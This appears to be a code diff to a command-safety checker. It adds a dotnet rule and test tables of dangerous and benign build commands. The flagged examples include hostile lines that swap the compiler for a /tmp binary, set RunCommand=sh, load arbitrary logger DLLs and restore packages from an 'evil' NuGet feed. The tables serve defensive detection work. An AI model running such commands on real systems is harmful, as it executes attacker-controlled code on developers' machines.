@@ -13,6 +13,7 @@ import { driverAllowlist } from './compilerDriver.js';
 import { optionTable, readItems, subcommandOptions } from './optionTable.js';
 import { JDK_TOOLS } from './jdkTools.js';
 import { latexmk, TEX_ENGINES, texEngine } from './tex.js';
+import { dotnet } from './dotnet.js';
 import { maven } from './maven.js';
 import { programOptions } from './programOptions.js';
 import { rules, type Check, type SubcommandSpec, type Resolver, type ProgramRule, type Examples } from './rule.js';
@@ -353,6 +354,7 @@ const effects: Readonly<Record<string, Check>> = {
   clang: also(driverAllowlist, compiler, driverCode),
   'clang++': also(driverAllowlist, compiler, driverCode),
   rustc,
+  dotnet,
   mvn: maven,
   mvnw: maven,
 };
@@ -518,6 +520,8 @@ const EXAMPLES: Readonly<Record<string, Examples>> = {
       'mvn -B -ntp -s .mvn/settings.xml verify -Drevision=1.2.3',
       'mvn dependency:tree -DoutputFile=tree.txt',
       'mvn spring-boot:run -Dspring-boot.run.profiles=dev',
+      'mvn -q -B verify',
+      'mvn -U clean install -T 4',
     ],
   },
   // One TeX table for every engine and format: each carries the same attacks and everyday lines.
@@ -569,6 +573,42 @@ const EXAMPLES: Readonly<Record<string, Examples>> = {
       'latexmk -pvc -lualatex main.tex',
     ],
   },
+  dotnet: {
+    match: [
+      ['dotnet build -p:CscToolExe=/tmp/x', '#p'],
+      ['dotnet build /p:CscToolPath=/tmp', '#p'],
+      ['dotnet build --property:RunCommand=sh', '#p'],
+      ['dotnet build --property RunCommand=sh', '#p'],
+      ['dotnet run --project ../other', '#project'],
+      ['dotnet run --project=../other', '#project'],
+      ['dotnet publish -o /tmp/out', '#output'],
+      ['dotnet test --logger:/tmp/x.dll', '#logger'],
+      ['dotnet build -logger:x.dll', '#logger'],
+      ['dotnet test --test-adapter-path ./x', '#test_adapter_path'],
+      ['dotnet test -s my.runsettings', '#settings'],
+      ['dotnet restore --source https://evil/v3/index.json', '#source'],
+      ['dotnet tool install -g dotnet-ef', '#global'],
+      ['dotnet nuget add source https://x', '#nuget_add'],
+      ['dotnet new install Evil.Templates', '#new_install'],
+      ['dotnet workload install wasm-tools', '#workload_install'],
+      ['dotnet frob', '#unknown_option'],
+      ['dotnet build --frob', '#unknown_option'],
+    ],
+    notMatch: [
+      'dotnet build',
+      'dotnet test',
+      'dotnet run',
+      'dotnet build -c Release -p:Configuration=Release /p:Version=1.2.3',
+      'dotnet run --project src/App',
+      'dotnet publish -c Release -o out',
+      'dotnet test --filter Category=Unit --logger trx',
+      'dotnet tool restore',
+      'dotnet add package Newtonsoft.Json',
+      'dotnet build -bl -tl:off',
+      'dotnet restore',
+      'dotnet new console -n App',
+    ],
+  },
   mvnw: {
     match: [
       ['mvnw -f ../other test', '#file'],
@@ -599,7 +639,14 @@ const EXAMPLES: Readonly<Record<string, Examples>> = {
     ],
     notMatch: ['go test -race -run TestX ./...', 'go mod tidy'],
   },
-  rustup: { match: [['rustup toolchain link x /tmp/x', '#link']], notMatch: ['rustup default stable'] },
+  rustup: {
+    match: [
+      ['rustup toolchain link x /tmp/x', '#link'],
+      ['rustup run stable cargo build', '#run'],
+      ['rustup update --evil', '#unknown_option'],
+    ],
+    notMatch: ['rustup default stable', 'rustup show', 'rustup component add clippy', 'rustup +nightly show'],
+  },
   cmake: {
     match: [
       ['cmake -C /tmp/init.cmake .', '#C'],
@@ -650,6 +697,7 @@ export const RULES: readonly ProgramRule[] = rules(
       'rustc',
       'mvn',
       'mvnw',
+      'dotnet',
       ...JDK,
       ...TEX,
     ],
